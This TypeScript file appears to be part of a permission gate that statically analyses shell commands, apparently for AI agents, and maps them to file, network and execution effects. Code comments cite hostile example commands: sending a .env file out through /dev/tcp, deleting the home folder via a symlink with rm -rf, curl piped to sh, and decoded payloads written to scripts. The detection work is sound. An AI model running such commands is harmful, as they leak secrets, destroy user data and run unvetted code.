import path from "node:path";
import type { Effect, PathRef } from "../effect.ts";
import type { AnalysisEnv } from "../environment.ts";
import { mostSensitive, otherUserTilde, resolvePath, stricter } from "../paths.ts";
import { scanCode } from "../code-scan.ts";
import { scanContent } from "../content-scan.ts";
import { subcommandReadings } from "../programs/global-options.ts";
import { envAssignments } from "./env-vars.ts";
import { DOWNLOADED, inFolder, type ProgramContext, type ProgramHandler } from "../programs/context.ts";
import { BUILD_PROGRAMS } from "../programs/build-tools.ts";
import { CLOUD_PROGRAMS } from "../programs/cloud.ts";
import { CONVERTER_PROGRAMS } from "../programs/converters.ts";
import { DATA_STORE_PROGRAMS } from "../programs/data-stores.ts";
import { FILE_PROGRAMS } from "../programs/files.ts";
import { ITEM_PROGRAMS } from "../programs/find-xargs.ts";
import { HTTP_CLIENTS } from "../programs/http-clients.ts";
import { INSPECT_PROGRAMS } from "../programs/inspect.ts";
import { LAUNCHER_PROGRAMS } from "../programs/launchers.ts";
import { git, gitLfs } from "../programs/git.ts";
import { interpreter, interpreterName } from "../programs/interpreters.ts";
import { NET_PROGRAMS } from "../programs/net.ts";
import { PACKAGE_PROGRAMS } from "../programs/packages.ts";
import { READONLY_PROGRAMS } from "../programs/readonly.ts";
import { SYSTEM_PROGRAMS } from "../programs/system.ts";
import { runScript, WRAPPER_PROGRAMS } from "../programs/wrappers.ts";
import { guessByVerb } from "../programs/generic-cli.ts";
import type { ShellWord, SimpleCommand } from "./command.ts";
import { walkShell } from "./walk.ts";

/**
 * Shell source → effects. Every command the walker finds goes through the program tables; anything
 * not in a table is a `run` of an unknown program, and anything not statically knowable is `dynamic`.
 */
export interface ShellAnalysis {
  effects: Effect[];
  /** Symlinks this command line creates (link → target), so `ln -s ~ /tmp/h && rm -rf /tmp/h/` is seen through. */
  links?: Map<string, string>;
  /**
   * Files this command line writes with content we can see (`cat > x.sh <<EOF`); `at`: how many
   * effects had been found when it was written (absent for a nested shell's writes: count from 0).
   */
  writes: { path: string; content: string; at?: number }[];
}

const MAX_COMMANDS = 500;
const MAX_SOURCE = 128 * 1024;
const TABLES: Record<string, ProgramHandler>[] = [WRAPPER_PROGRAMS, ITEM_PROGRAMS, READONLY_PROGRAMS, FILE_PROGRAMS, CONVERTER_PROGRAMS, INSPECT_PROGRAMS, NET_PROGRAMS, BUILD_PROGRAMS, PACKAGE_PROGRAMS, SYSTEM_PROGRAMS, CLOUD_PROGRAMS, DATA_STORE_PROGRAMS, LAUNCHER_PROGRAMS, HTTP_CLIENTS];
const SYSTEM_BIN = /^\/(usr\/)?(local\/)?s?bin\//;

export function lookupProgram(name: string): ProgramHandler | undefined {
  if (name === "git") return git;
  if (name === "git-lfs") return gitLfs;
  for (const t of TABLES) if (Object.hasOwn(t, name)) return t[name];
  if (interpreterName(name)) return interpreter;
  if (/^mkfs(\.\w+)?$/.test(name)) return SYSTEM_PROGRAMS.mkfs;
  return undefined;
}

export function analyzeShell(source: string, env: AnalysisEnv, opts: { cwd?: string; depth?: number } = {}): ShellAnalysis {
  const out: ShellAnalysis = { effects: [], writes: [] };
  if (source.length > MAX_SOURCE) {
    // Parsing is linear but not free (~0.1 ms/KiB); a command this large is not routine work anyway.
    out.effects.push({ type: "dynamic", reason: `a command of ${Math.round(source.length / 1024)} KiB is larger than autogate analyses (${MAX_SOURCE / 1024} KiB)`, span: { start: 0, end: source.length } });
    return out;
  }
  const walked = walkShell(source, { cwd: opts.cwd ?? env.cwd, home: env.home, vars: env.vars, depth: opts.depth, root: env.workspaceRoots[0] });
  for (const p of walked.problems) out.effects.push({ type: "dynamic", reason: p.reason, span: p.span });
  // Thousands of commands in one tool call is not routine work: analyse the first ones and ask about the rest.
  for (const cmd of walked.commands.slice(0, MAX_COMMANDS)) analyzeCommand(cmd, env, out);
  // Text a command line puts in a file is judged like a Write's: an SSH key, a cron line, curl | sh.
  for (const w of out.writes) if (w.content && w.content !== DOWNLOADED) out.effects.push(...scanContent(resolvePath(w.path, "/", env, true), w.content));
  if (walked.commands.length > MAX_COMMANDS) out.effects.push({ type: "dynamic", reason: `more than ${MAX_COMMANDS} commands in one call`, span: walked.commands[MAX_COMMANDS].span });
  return out;
}

function analyzeCommand(cmd: SimpleCommand, env: AnalysisEnv, out: ShellAnalysis): void {
  const resolveIn = (cwd: string) => (w: ShellWord | string): PathRef => {
    const word = typeof w === "string" ? { value: w, dynamic: false } : w;
    if (cwd.startsWith("$") && !word.value.startsWith("/")) return { path: word.value, class: "unknown" as const };
    // An unquoted `~alice` is alice's home; `~+` and `~-` ($PWD, $OLDPWD) are not resolved here.
    if (typeof w !== "string" && /^~[^/]/.test(w.text) && word.value.startsWith("~")) {
      const home = otherUserTilde(word.value);
      return home ? resolvePath(home, cwd, env, true) : { path: word.value, class: "unknown" as const };
    }
    if (!word.dynamic) return resolvePath(word.value, cwd, env, typeof w !== "string");
    // `~/"$d"` or `build/$x`: whatever the variable holds, the path starts in a known folder,
    // which decides the class (as a glob's literal prefix does). A bare `$X/...` stays unknown.
    const cut = word.value.search(/[$`]/);
    const prefix = cut < 0 ? word.value : word.value.slice(0, cut);
    if (!prefix.includes("/") || prefix.includes("..")) return { path: word.value, class: "unknown" as const };
    const base = resolvePath(prefix.slice(0, prefix.lastIndexOf("/") + 1) || "/", cwd, env);
    // The variable may hold `../..`: a lenient class (workspace, session, temp) cannot be promised,
    // a strict one (home, system, secret) is kept, since that is where the path starts.
    const cls = ["workspace", "session", "temp", "null-device"].includes(base.class) ? "unknown" as const : base.class;
    return { path: word.value.startsWith("/") ? word.value : `${base.path}/${word.value.slice(prefix.lastIndexOf("/") + 1)}`, class: cls };
  };
  const cwd = cmd.cwd;
  const primary = resolveIn(cwd);
  const alt = cmd.cwdAlt === undefined ? undefined : resolveIn(cmd.cwdAlt);
  const resolve = (w: ShellWord | string): PathRef => {
    const value = typeof w === "string" ? w : w.value;
    const here = alt && !value.startsWith("/") && !value.startsWith("~") ? stricter(primary(w), alt(w)) : primary(w);
    for (const [link, target] of out.links ?? []) {
      if (here.path === link || here.path.startsWith(link + "/")) return stricter(here, resolvePath(target + here.path.slice(link.length), cwd, env, true));
    }
    return here;
  };
  const emit = (e: Effect) => {
    out.effects.push(e);
    // A file curl or wget saves is remembered as downloaded, here and for the rest of the session.
    if (e.type === "write" && e.note === "downloaded" && !e.path.includes("*")) record(out, { path: e.path, content: DOWNLOADED });
  };

  for (const r of cmd.redirects) {
    if (!r.target) continue;
    if (/^\d+$|^-$/.test(r.target.value) && /&/.test(r.op)) continue;
    // bash's /dev/tcp/HOST/PORT: a redirect there is a network connection, carrying what the command prints.
    const socket = /^\/dev\/(tcp|udp)\/([^/]+)\/\d+$/.exec(r.target.value);
    if (socket) emit({ type: "net", direction: r.op === "<" ? "download" : "upload", host: socket[2], payload: r.op === "<" ? undefined : socketPayload(cmd, resolve), span: r.span } as Effect);
    else if (r.op === "<") emit({ type: "read", ...resolve(r.target), span: r.span });
    else if (r.op !== "<<<") emit({ type: "write", ...resolve(r.target), append: r.op.endsWith(">>"), note: "redirect", span: r.span });
  }
  if (cmd.argv.length === 0 && cmd.assignments.length === 0) return recordWrites(cmd, resolve, out);

  const ctx: ProgramContext = {
    cmd, words: cmd.argv, env, emit, path: resolve,
    shell: (src, at) => nested(analyzeShell(src, env, { cwd: at ?? cwd, depth: cmd.depth + 1 }), cmd, out),
    code: (lang, src) => scanCode(lang, src, { path: (p) => resolve(p), emit: (e) => emit({ ...e, span: e.span ?? cmd.span, via: "code" }), shell: (s) => ctx.shell(s) }),
    run: (words, opts = {}) => {
      const start = out.effects.length;
      analyzeCommand({ ...cmd, argv: words, assignments: [...cmd.assignments, ...(opts.assignments ?? [])], ...(opts.cwd ? { cwd: opts.cwd, cwdAlt: undefined } : {}), redirects: [], stdinText: cmd.stdinText }, env, out);
      return out.effects.slice(start);
    },
    knows: (name) => lookupProgram(name) !== undefined,
    link: (linkPath, target) => (out.links ??= new Map()).set(linkPath, target),
    writtenHere: (p) => {
      const at = out.writes.map((x) => x.path).lastIndexOf(p);
      // Changed again after the text we saw (`>> x.sh`, `sed -i … x.sh`, `cp other x.sh`): unknown now.
      const changedAfter = at >= 0 && out.effects.slice(out.writes[at].at ?? 0).some((e) => (e.type === "write" || e.type === "delete") && e.path === p && e.note !== "downloaded" && e.note !== "attributes");
      if (at >= 0) return changedAfter ? null : out.writes[at].content;
      // Output redirected into a file we cannot read (`base64 -d … > run.sh`); an edit in place is not this.
      return out.effects.some((e) => e.type === "write" && e.note === "redirect" && e.path === p) ? null : undefined;
    },
  };
  // `PATH=/opt/x:$PATH; ls`: an assignment on its own changes what the later commands of the line run.
  if (cmd.argv.length === 0) envAssignments(ctx);
  else dispatch(ctx);
  // After the command's own effects (tee's write of its file), so only later changes count as changes.
  recordWrites(cmd, resolve, out);
}

function dispatch(ctx: ProgramContext): void {
  const head = ctx.words[0];
  if (head.dynamic) {
    ctx.emit({ type: "dynamic", reason: `the program name "${head.text}" is computed at run time`, span: head.span });
    return;
  }
  const name = head.value;
  const base = SYSTEM_BIN.test(name) ? path.posix.basename(name) : name;
  if (base.includes("/")) {
    // ./run_tests.sh, /testbed/tests/runtests.py: code at a path, judged by where it is and what it says.
    const lang = /\.py$/.test(base) ? "python" : /\.(m?js|ts)$/.test(base) ? "node" : "shell";
    return runScript(ctx, head, lang);
  }
  const handler = lookupProgram(base);
  // A program we have no table for may still say what it does with its verb (`borg delete`, `rclone ls`).
  const known = handler !== undefined || guessByVerb(ctx);
  ctx.emit({ type: "run", program: base, argv: ctx.words.map((w) => w.value), known, span: ctx.cmd.span });
  // `helm -n prod uninstall x`: the handler reads the subcommand right after the program name.
  for (const { words, dir } of handler ? subcommandReadings(base, ctx.words) : []) {
    const at = words === ctx.words ? ctx : { ...ctx, words };
    handler!(dir ? inFolder(at, dir) : at);
  }
  envAssignments(ctx);
}

/** `cat .env > /dev/tcp/h/80`: the files a printing command names are what goes out. */
function socketPayload(cmd: SimpleCommand, resolve: (w: ShellWord) => PathRef): PathRef["class"] | "data" {
  if (!/^(cat|tac|head|tail|base64|xxd|gzip|tar|echo|printf)$/.test(cmd.argv[0]?.value ?? "")) return "data";
  const classes = cmd.argv.slice(1).filter((w) => !w.value.startsWith("-") && /[./~]/.test(w.value)).map((w) => resolve(w).class);
  return mostSensitive(classes);
}

/** Nested shells report spans relative to their own text: point them at the command that ran them. */
function nested(inner: ShellAnalysis, cmd: SimpleCommand, out: ShellAnalysis): void {
  for (const e of inner.effects) out.effects.push({ ...e, span: cmd.span, via: e.via ?? "shell" });
  // The inner shell's effect counts mean nothing here: its writes are checked from the start.
  out.writes.push(...inner.writes.map(({ path, content }) => ({ path, content })));
}

/** A write whose content we can see, with the point in the effects where it happened. */
function record(out: ShellAnalysis, w: { path: string; content: string }): void {
  out.writes.push({ ...w, at: out.effects.length });
}

/** `cat > x.sh <<'EOF'`, `echo '...' > x.py`, `tee x <<EOF`: remember what was written. */
function recordWrites(cmd: SimpleCommand, resolve: (w: ShellWord) => { path: string }, out: ShellAnalysis): void {
  const prog = cmd.argv[0]?.value;
  const target = cmd.redirects.find((r) => (r.op === ">" || r.op === ">|" || r.op === ">>") && r.target && !r.target.dynamic)?.target;
  let content: string | undefined;
  if ((prog === "cat" || prog === undefined) && cmd.stdinText !== undefined && cmd.argv.length <= 1) content = cmd.stdinText;
  else if ((prog === "echo" || prog === "printf") && !cmd.argv.slice(1).some((w) => w.dynamic || (prog === "printf" && /%[^%]/.test(w.value)) || /\\(?![nt])/.test(w.value))) {
    // printf's %s and any escape other than \n and \t change the text: then what lands is unknown.
    content = cmd.argv.slice(1).filter((w) => !/^-[neE]+$/.test(w.value)).map((w) => w.value).join(" ");
    // printf (and echo -e) turn \n and \t into the newlines and tabs the file will hold.
    if (prog === "printf" || cmd.argv.some((w) => /^-[nE]*e/.test(w.value))) content = content.replace(/\\n/g, "\n").replace(/\\t/g, "\t");
  }
  if (target && content !== undefined) record(out, { path: resolve(target).path, content });
  if (prog === "tee" && cmd.stdinText !== undefined) {
    for (const w of cmd.argv.slice(1)) if (!w.value.startsWith("-")) record(out, { path: resolve(w).path, content: cmd.stdinText });
  }
}
